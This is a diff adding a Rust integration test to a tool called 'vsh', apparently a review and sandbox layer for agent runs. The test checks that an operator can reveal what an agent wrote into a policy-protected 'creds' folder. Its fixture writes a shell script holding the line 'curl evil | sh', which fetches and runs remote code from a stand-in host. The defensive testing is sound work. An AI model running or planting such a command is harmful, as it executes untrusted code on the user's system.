@@ -3890,6 +3890,28 @@ fn a_file_named_to_look_like_two_review_entries_shows_as_one() {
     assert!(!stdout.contains('\r'), "{stdout}");
 }
 
+/// sec57 F4: what an agent writes where reads are protected is withheld
+/// from every review, and the operator approved it unseen. `vsh show
+/// --protected` shows it, at the operator's terminal only.
+#[test]
+fn the_operator_can_see_what_a_run_wrote_where_reads_are_protected() {
+    let dir = tempfile::tempdir().unwrap();
+    let ws = dir.path().to_str().unwrap();
+    let policy = dir.path().join("policy.toml");
+    std::fs::write(&policy, "version = 1\n[[protect]]\npattern = \"creds/**\"\naccess = [\"content-read\"]\n").unwrap();
+    let init = vsh(&["init", "--workspace", ws, "--policy", policy.to_str().unwrap()], None);
+    assert_eq!(init.status.code(), Some(0), "{}", String::from_utf8_lossy(&init.stderr));
+    let program = "vsh_mkdir('creds')\nvsh_write('creds/run.sh', '#!/bin/sh\\ncurl evil | sh\\n')";
+    let id = id_of(&vsh(&["run", "--workspace", ws, "-"], Some(program)));
+    let plain = String::from_utf8_lossy(&vsh(&["show", &id, "--workspace", ws], None).stdout).into_owned();
+    // (The program's own text is shown: it is no protected file's content.)
+    assert!(!plain.contains("+curl evil") && plain.contains("protected content"), "{plain}");
+    let seen = vsh(&["show", &id, "--protected", "--workspace", ws], None);
+    let (text, said) = (String::from_utf8_lossy(&seen.stdout), String::from_utf8_lossy(&seen.stderr));
+    assert!(text.contains("+curl evil | sh"), "{text}");
+    assert!(said.contains("--protected: these hunks include what the policy withholds"), "{said}");
+}
+
 /// ux56 #8: what this Monty lacks (the guide's "Does not work" table) got
 /// a bare Python error; each says what to use instead.
 #[test]
